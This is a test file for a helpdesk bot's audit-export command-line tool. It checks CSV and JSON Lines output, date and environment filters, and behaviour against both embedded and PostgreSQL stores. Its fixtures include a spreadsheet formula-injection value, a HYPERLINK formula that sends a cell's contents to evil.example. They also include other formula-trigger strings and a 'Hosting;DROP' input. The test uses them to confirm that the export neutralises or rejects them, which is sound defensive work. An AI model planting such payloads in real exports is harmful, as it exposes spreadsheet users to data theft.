/**
 * The operator's audit export end to end: the built CLI (`node dist/src/audit/cli.js`, what `npm
 * run audit` runs; built by `npm test` before the suite) as a child process, against entries
 * recorded through the real audit log of each store: an embedded DATA_DIR held (locked) by an
 * open store, as while the bot runs, and the run's PostgreSQL. Its CSV is read back with a strict
 * RFC 4180 parser of this file's own.
 */
import { execFile } from 'node:child_process';
import { appendFile, copyFile, mkdir, mkdtemp, readFile, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditEntry, AuditRecordInput } from '../../src/audit/audit-log.js';
import { createLogger } from '../../src/log/logger.js';
import { createEmbeddedState } from '../../src/state/embedded/index.js';
import { createPostgresState } from '../../src/state/postgres/index.js';
import type { StateStore } from '../../src/state/state.js';
import { createTestDatabase, type TestDatabase } from '../support/postgres.js';

const REPO = fileURLToPath(new URL('../..', import.meta.url));
const CLI = join(REPO, 'dist/src/audit/cli.js');

const HEADER = [
  'time', 'environment', 'action', 'outcome', 'admin_upn', 'admin_dn', 'admin_teams_id', 'target_sam', 'target_dn', 'target_guid',
  'target_reference', 'mail_recipient', 'mail_language', 'mail_message_id', 'mail_smtp_response', 'error_code', 'detail',
  'correlation_id', 'client_address', 'key_version', 'pwd_last_set', 'id',
];

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

let workDir: string;

function runCli(args: string[], env: Record<string, string>, command: string[] = [process.execPath, CLI]): Promise<Run> {
  const [file = '', ...rest] = command;
  return new Promise((resolve) => {
    // A working folder without a .env: only the settings given here.
    execFile(file, [...rest, ...args], { cwd: workDir, env: { PATH: process.env['PATH'] ?? '', ...env }, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) => {
      resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr });
    });
  });
}

/**
 * RFC 4180, strictly: records end in CRLF (the last one too), fields are separated by commas, a
 * field with a quote, comma, CR or LF is quoted and its quotes doubled; anything else throws.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('a quoted field is not closed');
        field += text.slice(i, quote);
        if (text[quote + 1] === '"') {
          field += '"';
          i = quote + 2;
        } else {
          i = quote + 1;
          break;
        }
      }
    } else {
      while (i < text.length && !',\r\n'.includes(text[i] as string)) {
        if (text[i] === '"') throw new Error(`a quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      if (i === text.length) throw new Error('the text ends after a comma');
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`expected a comma or CRLF at ${i}`);
    }
  }
  return rows;
}

/** The CSV's rows as objects keyed by the header, after checking the header and every row's width. */
function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(HEADER);
  for (const row of rows) expect(row).toHaveLength(HEADER.length);
  return rows.map((row) => Object.fromEntries(HEADER.map((name, i) => [name, row[i] as string])));
}

const admin = { dn: 'CN=Helpdesk Hosting,OU=Hosting,DC=corp,DC=test', upn: 'helpdesk@hosting.test', teamsId: 'aad-hosting-1' };

/** What the test records (in this order), by a name for the assertions. */
const ENTRIES: [name: string, entry: AuditRecordInput][] = [
  ['october', { time: new Date('2026-10-31T23:59:59.999Z'), environment: 'hosting', admin, target: { dn: 'CN=Oud,OU=Hosting,DC=corp,DC=test', sam: 'sbf_oud', guid: null }, action: 'reset', outcome: 'success', correlationId: 'c-october' }],
  [
    'awkward',
    {
      time: new Date('2026-11-01T00:00:00.000Z'),
      environment: 'hosting',
      admin: { dn: 'CN=Mus\\, Joman,OU=Hosting,DC=corp,DC=test', upn: 'helpdesk@hosting.test' },
      target: { dn: null, sam: null, guid: null, reference: '=HYPERLINK("https://evil.example/?x="&A1,"click")' },
      action: 'reset',
      outcome: 'refused',
      errorCode: 'DIRECTORY_USER_NOT_FOUND',
      detail: 'He said "no", twice,\r\nthen left\nfor good',
      correlationId: 'c-awkward',
    },
  ],
  [
    'acme-mail',
    {
      time: new Date('2026-11-15T12:30:00.000Z'),
      environment: 'acme',
      admin: { dn: 'CN=Helpdesk,OU=Acme,DC=corp,DC=test', upn: 'helpdesk@acme.test' },
      target: { dn: 'CN=Jan,OU=Acme,DC=corp,DC=test', sam: 'acm_jan', guid: '6f1c1c36-0d3e-4d4e-9a57-1c1f5f0c2a11' },
      action: 'mail',
      outcome: 'success',
      mail: { recipient: 'jan@acme.test', language: 'nl', messageId: '<m1@acme.test>', smtpResponse: '250 2.0.0 Ok: queued' },
      correlationId: 'c-acme',
      keyVersion: 7,
      pwdLastSet: '0',
    },
  ],
  ['no-environment', { time: new Date('2026-11-16T08:00:00.000Z'), environment: null, admin: { dn: null, upn: 'someone@elsewhere.test' }, action: 'sign-in', outcome: 'refused', errorCode: 'SIGN_IN_RATE_LIMITED' }],
  [
    'hosting-link',
    {
      time: new Date('2026-11-30T23:59:59.000Z'),
      environment: 'hosting',
      admin,
      target: { dn: 'CN=Piet,OU=Hosting,DC=corp,DC=test', sam: 'sbf_piet', guid: '0b7c1f2e-9d8a-4c3b-8e1f-2a3b4c5d6e7f' },
      action: 'link-change',
      outcome: 'success',
      detail: '-2+3',
      client: { address: '@198.51.100.7' },
      keyVersion: 12,
      pwdLastSet: '-1',
    },
  ],
  ['december', { time: new Date('2026-12-01T00:00:00.000Z'), environment: 'hosting', admin, target: { dn: null, sam: 'sbf_piet', guid: null }, action: 'unlock', outcome: 'success' }],
];

const names = (records: Record<string, string>[], byId: Map<string, string>): string[] => records.map((r) => byId.get(r['id'] ?? '') ?? `?${r['id']}`);

interface StoreUnderTest {
  name: string;
  /** Opens the store (as the bot does) and records ENTRIES through its audit log. */
  setUp(): Promise<{ store: StateStore; env: Record<string, string>; recorded: AuditEntry[] }>;
  tearDown(): Promise<void>;
}

let dataDir: string;
let database: TestDatabase | undefined;

const stores: StoreUnderTest[] = [
  {
    name: 'embedded DATA_DIR, locked by an open store',
    async setUp() {
      dataDir = await mkdtemp(join(tmpdir(), 'audit-export-'));
      const store = await createEmbeddedState({ dataDir, sessionTtlMinutes: 60, signIn: { maxFailures: 5, windowMinutes: 15 }, auditRetentionDays: 3650 });
      const recorded: AuditEntry[] = [];
      for (const [, entry] of ENTRIES) recorded.push(await store.audit.record(entry));
      // A write cut short by a crash: the last line of November without its end.
      await appendFile(join(dataDir, 'audit', '2026-11.jsonl'), '{"id":"7d3f0c9e-1b2a-4c3d-8e4f-5a6b7c8d9e0f","time":"2026-11-20T10:00:00.000Z","environment":"hos');
      return { store, env: { DATA_DIR: dataDir }, recorded };
    },
    async tearDown() {
      await rm(dataDir, { recursive: true, force: true });
    },
  },
  {
    name: 'PostgreSQL',
    async setUp() {
      database = await createTestDatabase('audit-export');
      const store = await createPostgresState({ url: database.url, sessionTtlMinutes: 60, signIn: { maxFailures: 5, windowMinutes: 15 }, auditRetentionDays: 3650, log: createLogger('silent') });
      const recorded: AuditEntry[] = [];
      for (const [, entry] of ENTRIES) recorded.push(await store.audit.record(entry));
      return { store, env: { DATABASE_URL: database.url }, recorded };
    },
    async tearDown() {
      await database?.drop();
    },
  },
];

beforeAll(async () => {
  workDir = await mkdtemp(join(tmpdir(), 'audit-export-cwd-'));
});
afterAll(async () => {
  await rm(workDir, { recursive: true, force: true });
});

describe.each(stores)('npm run audit on the $name', (subject) => {
  let store: StateStore;
  let env: Record<string, string>;
  let recorded: AuditEntry[];
  const byId = new Map<string, string>();
  const entryNamed = (name: string): AuditEntry => recorded[ENTRIES.findIndex(([n]) => n === name)] as AuditEntry;

  beforeAll(async () => {
    ({ store, env, recorded } = await subject.setUp());
    recorded.forEach((entry, i) => byId.set(entry.id, ENTRIES[i]?.[0] ?? '?'));
  });
  afterAll(async () => {
    await store.close();
    await subject.tearDown();
  });

  it('writes CSV a spreadsheet opens: a header row, one CRLF row per entry of the environment and period, oldest first, values intact', async () => {
    const { code, stdout, stderr } = await runCli(['--environment', 'hosting', '--from', '2026-11-01', '--to', '2026-11-30', '--format', 'csv'], env);
    expect(stderr).toContain('audit export: 2 entries');
    expect(code).toBe(0);
    const records = csvRecords(stdout);
    expect(names(records, byId)).toEqual(['awkward', 'hosting-link']);

    const [awkward, link] = records as [Record<string, string>, Record<string, string>];
    const original = entryNamed('awkward');
    expect(awkward).toMatchObject({
      time: '2026-11-01T00:00:00.000Z',
      environment: 'hosting',
      action: 'reset',
      outcome: 'refused',
      admin_upn: 'helpdesk@hosting.test',
      admin_dn: 'CN=Mus\\, Joman,OU=Hosting,DC=corp,DC=test',
      admin_teams_id: '',
      target_sam: '',
      error_code: 'DIRECTORY_USER_NOT_FOUND',
      detail: 'He said "no", twice,\r\nthen left\nfor good',
      correlation_id: 'c-awkward',
      id: original.id,
    });
    // What the admin typed would be a formula: it reads as text, with the apostrophe a spreadsheet hides.
    expect(awkward['target_reference']).toBe(`'${original.target?.reference ?? ''}`);
    expect(link).toMatchObject({
      time: '2026-11-30T23:59:59.000Z',
      action: 'link-change',
      admin_teams_id: 'aad-hosting-1',
      target_sam: 'sbf_piet',
      target_dn: 'CN=Piet,OU=Hosting,DC=corp,DC=test',
      target_guid: '0b7c1f2e-9d8a-4c3b-8e1f-2a3b4c5d6e7f',
      detail: "'-2+3",
      client_address: "'@198.51.100.7",
      key_version: '12',
      pwd_last_set: '-1', // a plain number stays a number
    });
    for (const record of records) expect(record['time']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(stdout).not.toMatch(/password"?:/i);
  });

  it('exports every environment without --environment (entries without one too), and several with it repeated', async () => {
    const all = await runCli(['--from', '2026-11-01', '--to', '2026-11-30'], env);
    expect(all.code).toBe(0);
    const records = csvRecords(all.stdout);
    expect(names(records, byId)).toEqual(['awkward', 'acme-mail', 'no-environment', 'hosting-link']);
    expect(records[1]).toMatchObject({ mail_recipient: 'jan@acme.test', mail_language: 'nl', mail_message_id: '<m1@acme.test>', mail_smtp_response: '250 2.0.0 Ok: queued', target_guid: '6f1c1c36-0d3e-4d4e-9a57-1c1f5f0c2a11', key_version: '7', pwd_last_set: '0' });
    expect(records[2]).toMatchObject({ environment: '', action: 'sign-in', admin_upn: 'someone@elsewhere.test', target_sam: '' });

    const two = await runCli(['--environment', 'acme', '--environment', 'hosting', '--from', '2026-11-01T00:00:00.001Z'], env);
    expect(two.code).toBe(0);
    expect(names(csvRecords(two.stdout), byId)).toEqual(['acme-mail', 'hosting-link', 'december']);

    const acme = await runCli(['--environment', 'acme'], env);
    expect(names(csvRecords(acme.stdout), byId)).toEqual(['acme-mail']);
  });

  it('without a period exports every month, oldest first; --to an instant leaves that instant out', async () => {
    const everything = await runCli([], env);
    expect(everything.code).toBe(0);
    expect(names(csvRecords(everything.stdout), byId)).toEqual(ENTRIES.map(([name]) => name));
    const until = await runCli(['--to', '2026-11-01T00:00Z'], env);
    expect(names(csvRecords(until.stdout), byId)).toEqual(['october']);
    const empty = await runCli(['--environment', 'nowhere'], env);
    expect(empty.code).toBe(0);
    expect(empty.stdout).toBe(`${HEADER.join(',')}\r\n`);
    expect(empty.stderr).toContain('audit export: 0 entries');
  });

  it('writes JSON Lines: each entry as recorded, one per line', async () => {
    const { code, stdout } = await runCli(['--format', 'jsonl', '--environment', 'hosting', '--from', '2026-11-01'], env);
    expect(code).toBe(0);
    expect(stdout.endsWith('\n')).toBe(true);
    const lines = stdout.trimEnd().split('\n').map((line) => JSON.parse(line) as AuditEntry);
    expect(lines).toEqual([entryNamed('awkward'), entryNamed('hosting-link'), entryNamed('december')]);
  });

  it.each([
    [['--form', '2026-11-01'], '--form'],
    [['--from', '2026-02-30'], '--from'],
    [['--from', '1 November'], '--from'],
    [['--to', '2026-11-01T25:00Z'], '--to'],
    [['--from', '2026-11-02', '--to', '2026-11-01'], '--to'],
    [['--format', 'xlsx'], '--format'],
    [['--format', 'csv', '--format', 'jsonl'], '--format'],
    [['--environment', 'Hosting;DROP'], '--environment'],
    [['--environment'], '--environment'],
    [['hosting'], 'hosting'],
  ])('refuses %j: exit code 2, the option named, nothing on standard output', async (args, option) => {
    const { code, stdout, stderr } = await runCli(args, env);
    expect(code).toBe(2);
    expect(stdout).toBe('');
    expect(stderr).toContain('That input is not valid.');
    expect(stderr).toContain(`${option}:`);
  });

  it('only reads: the store that holds the data stays usable and unchanged', async () => {
    const before = await runCli(['--format', 'jsonl'], env);
    const later = await store.audit.record({ time: new Date('2026-12-02T08:00:00Z'), environment: 'hosting', admin, action: 'sign-in', outcome: 'success' });
    const after = await runCli(['--format', 'jsonl'], env);
    expect(after.stdout).toBe(`${before.stdout}${JSON.stringify(later)}\n`);
  });
});

describe('npm run audit beside a running bot on DATA_DIR', () => {
  let store: StateStore;
  let dir: string;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'audit-export-lock-'));
    store = await createEmbeddedState({ dataDir: dir, sessionTtlMinutes: 60, signIn: { maxFailures: 5, windowMinutes: 15 }, auditRetentionDays: 3650 });
    for (const [, entry] of ENTRIES.slice(0, 3)) await store.audit.record(entry);
    await appendFile(join(dir, 'audit', '2026-11.jsonl'), '{"id":"7d3f0c9e-1b2a-4c3d-8e4f-5a6b7c8d9e0f","time":"2026-11-20T10:00');
  });
  afterAll(async () => {
    await store.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('reads while the store holds the DATA_DIR lock, leaves the lock alone, and says which month had a torn line', async () => {
    const lock = await readFile(join(dir, '.lock'), 'utf8');
    const { code, stdout, stderr } = await runCli(['--from', '2026-11-01'], { DATA_DIR: dir });
    expect(code).toBe(0);
    expect(csvRecords(stdout).map((r) => r['correlation_id'])).toEqual(['c-awkward', 'c-acme']);
    expect(stderr).toContain('2026-11.jsonl: 1 line(s) left out');
    expect(await readFile(join(dir, '.lock'), 'utf8')).toBe(lock);
    // The bot goes on recording (its next entry starts on a line of its own), and the export sees it.
    const next = await store.audit.record({ time: new Date('2026-11-21T09:00:00Z'), environment: 'acme', admin, action: 'unlock', outcome: 'success', correlationId: 'c-next' });
    const again = await runCli(['--from', '2026-11-01', '--format', 'jsonl'], { DATA_DIR: dir });
    expect(again.stdout.trimEnd().split('\n').map((line) => (JSON.parse(line) as AuditEntry).correlationId)).toEqual(['c-awkward', 'c-acme', next.correlationId]);
  });

  it('runs as npm run -s audit, the command the README gives', async () => {
    // The project's package.json and build in a folder of their own, without a developer's .env.
    const project = join(workDir, 'project');
    await mkdir(project);
    await copyFile(join(REPO, 'package.json'), join(project, 'package.json'));
    await symlink(join(REPO, 'dist'), join(project, 'dist'), 'dir');
    await symlink(join(REPO, 'node_modules'), join(project, 'node_modules'), 'dir');
    const npm = await runCli(['--', '--environment', 'hosting'], { DATA_DIR: dir }, ['npm', '--prefix', project, 'run', '-s', 'audit']);
    const direct = await runCli(['--environment', 'hosting'], { DATA_DIR: dir });
    expect(npm.code).toBe(0);
    expect(npm.stdout).toBe(direct.stdout);
    expect(csvRecords(npm.stdout)).toHaveLength(2);
  });

  it('explains itself with --help, on standard output, exit code 0', async () => {
    const { code, stdout } = await runCli(['--help'], { DATA_DIR: dir });
    expect(code).toBe(0);
    for (const option of ['--environment <key>', '--from <date>', '--to <date>', '--format csv|jsonl', '--help']) expect(stdout).toContain(option);
  });
});

describe('npm run audit on a database the bot never started on', () => {
  it('fails with exit code 1, naming DATABASE_URL', async () => {
    const empty = await createTestDatabase('audit-export-empty');
    try {
      const { code, stdout, stderr } = await runCli([], { DATABASE_URL: empty.url });
      expect(code).toBe(1);
      expect(stderr).toContain('DATABASE_URL (no audit table');
      expect(stdout).toBe('');
    } finally {
      await empty.drop();
    }
  });
});
